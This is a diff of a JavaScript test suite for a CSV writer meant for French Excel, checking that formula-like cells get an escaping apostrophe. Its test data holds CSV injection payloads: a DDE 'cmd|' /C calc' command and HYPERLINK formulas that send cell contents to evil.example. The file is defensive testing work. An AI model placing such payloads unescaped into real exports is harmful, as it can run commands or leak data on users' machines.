@@ -22,7 +22,7 @@ describe('CSV for French Excel', () => {
     ['=HYPERLINK("https://evil.example";"Cliquez")', '"\'=HYPERLINK(""https://evil.example"";""Cliquez"")"'],
     ['=1+1', "'=1+1"],
     ['+33 6 12 34 56 78', "'+33 6 12 34 56 78"],
-    ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
+    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
     ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
     ['\t=1+1', "'\t=1+1"],
     ['\r=1+1', '"\'\r=1+1"'],
@@ -44,7 +44,9 @@ describe('CSV for French Excel', () => {
 
   it('reads back as the original text behind the quote, cell for cell', () => {
     const values = ['=HYPERLINK("https://evil.example/?d="&A2;"Ouvrir")', 'Dupont; "Fils"', '@x', '-4,50', 'ligne\r\nsuivante', null];
-    expect(readCsv(csvRow(values.map((value) => value)))).toEqual([['\'=HYPERLINK("https://evil.example/?d="&A2;"Ouvrir")', 'Dupont; "Fils"', "'@x", '-4,50', 'ligne\r\nsuivante', '']]);
+    expect(readCsv(csvRow(values.map((value) => value)))).toEqual([
+      ['\'=HYPERLINK("https://evil.example/?d="&A2;"Ouvrir")', 'Dupont; "Fils"', "'@x", '-4,50', 'ligne\r\nsuivante', ''],
+    ]);
   });
 
   it('separates cells with ; and ends rows with CRLF', () => {
